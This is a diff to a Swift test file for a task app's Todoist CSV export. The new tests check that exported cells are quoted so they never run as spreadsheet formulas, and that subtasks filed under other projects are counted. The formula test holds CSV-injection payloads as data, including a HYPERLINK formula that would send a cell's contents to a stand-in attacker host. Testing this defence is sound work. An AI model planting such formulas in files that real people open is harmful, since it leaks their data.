@@ -1,6 +1,7 @@
 import Testing
 import TaskDraftKit
 import TaskDraftModels
+import HostileSamples
 @testable import TaskDraftCLI
 
 /// `export --format todoist` writes what Todoist's CSV holds so that `import` reads it back as
@@ -76,7 +77,7 @@ import TaskDraftModels
             section,Office,,,,,,,,,,\r
             task,Move the office @work,,1,1,,,2026-12-11 15:00,en,Europe/Moscow,360,minute\r
             note,"Called the landlord, ""no answer""\",,,,,,2026-12-02 10:00:07,,Europe/Moscow,,\r
-            note,=SUM(A1) is not a formula here,,,,,,2026-12-02 11:00,,Europe/Moscow,,\r
+            note,'=SUM(A1) is not a formula here,,,,,,2026-12-02 11:00,,Europe/Moscow,,\r
             note,"Two floors, one lift
             and a ramp",,,,,,1970-01-01 03:00,,Europe/Moscow,,\r
             task,Pack the books,,2,2,,,2026-12-09,en,Europe/Moscow,90,minute\r
@@ -108,6 +109,59 @@ import TaskDraftModels
             let parentTitle = task.parent.flatMap { uid in Self.tasks.first { $0.uuid == uid }?.title }
             #expect(back.parent.flatMap { uid in read.first { $0.uuid == uid }?.title } == parentTitle, "\(task.title)")
         }
+    }
+
+    /// Titles, a project, a tag and notes a stranger writes to run in a spreadsheet. Todoist's
+    /// import takes CONTENT as text, but the file is a CSV a person opens in a spreadsheet to look
+    /// over or edit first, as Todoist's help asks of its template: no cell there starts like a
+    /// formula (a `'` before it, as `export --format csv` writes: `SpreadsheetFormulaGuard`), and
+    /// `import` takes that `'` off again, so each comes back exactly and the bytes are the same.
+    @Test func noCellRunsAsAFormulaAndEachComesBackAsWritten() throws {
+        let titles = [#"=HYPERLINK("http://evil.example/?"&A1,"Click")"#, "+cmd", "-2+3", "'=already quoted", "''+twice",
+                      "'plain quote", "a=b"]
+        let tasks = titles.enumerated().map { index, title in
+            Task(id: Int64(index + 1), uuid: "t\(index)", title: title, project: index == 1 ? "-Office" : nil,
+                 tags: index == 2 ? ["=eq", "@at"] : [], createdAt: Instant(seconds: 0), modifiedAt: Instant(seconds: 0),
+                 annotations: index == 0 ? [Annotation(entry: Instant(seconds: 1_796_194_800), text: "=1+1"),
+                                            Annotation(entry: Instant(seconds: 1_796_198_400), text: "@SUM(A1)\n-2")] : [])
+        }
+        let text = try Self.write(tasks)
+        let rows = SpreadsheetCells.rows(text)
+        #expect(rows.count == 1 + titles.count + 2 + 1, "the header, a row a task, two notes and a section")
+        for cell in rows.joined() { #expect(!SpreadsheetCells.runsAsAFormula(cell), "\(cell.debugDescription)") }
+        #expect(rows.contains { $0[0] == "task" && $0[1] == #"'=HYPERLINK("http://evil.example/?"&A1,"Click")"# })
+        #expect(rows.contains { $0[0] == "task" && $0[1] == "'''+twice" } && rows.contains { $0[0] == "task" && $0[1] == "'plain quote" })
+        #expect(rows.contains { $0 == ["section", "'-Office", "", "", "", "", "", "", "", "", "", ""] })
+        let read = try Self.read(text)
+        #expect(try Self.write(read) == text)
+        let byTitle = Dictionary(uniqueKeysWithValues: read.map { ($0.title, $0) })
+        for task in tasks {
+            let back = try #require(byTitle[task.title], "\(task.title) in \(read.map(\.title))")
+            #expect(back.project == task.project && back.tags == task.tags && back.annotations == task.annotations, "\(task.title)")
+        }
+    }
+
+    /// A tree is written in its top task's section, so a subtask whose project is another (or none
+    /// where the top task has one, or one where it has none) comes back in the top task's: each
+    /// such task is counted (`subtaskProjects`) and said, as what else the file cannot hold is.
+    @Test func aSubtaskInAnotherProjectThanItsParentsIsCounted() throws {
+        func task(_ id: Int64, _ project: String?, parent: String? = nil) -> Task {
+            Task(id: id, uuid: "u\(id)", title: "Task \(id)", project: project, createdAt: Instant(seconds: 0),
+                 modifiedAt: Instant(seconds: 0), parent: parent)
+        }
+        let tasks = [task(1, "Office"), task(2, "Home", parent: "u1"), task(3, nil, parent: "u1"), task(4, "Office", parent: "u1"),
+                     task(5, nil), task(6, "Garden", parent: "u5"), task(7, nil, parent: "u5"), task(8, "Home", parent: "u2")]
+        var writer = TodoistTaskWriter(zone: Self.zone)
+        _ = try written { out in
+            writer.begin(out)
+            for task in tasks { writer.write(task, out) }
+            writer.end(out)
+        }
+        #expect(writer.leftOut.subtaskProjects == 4, "tasks 2, 3, 6 and 8, in its parent's project but under task 1; not 4 or 7")
+        #expect(writer.leftOut.messages(format: "todoist") == [.subtaskProjects(format: "todoist", 4)])
+        let back = Dictionary(uniqueKeysWithValues: try Self.read(try Self.write(tasks)).map { ($0.title, $0.project) })
+        #expect(back["Task 2"] == "Office" && back["Task 3"] == "Office" && back["Task 6"] == .some(nil) && back["Task 8"] == "Office"
+                && back["Task 4"] == "Office" && back["Task 7"] == .some(nil), "what the count says: \(back)")
     }
 
     @Test func aLoopOfStepsIsWrittenOnceAtTheTop() throws {
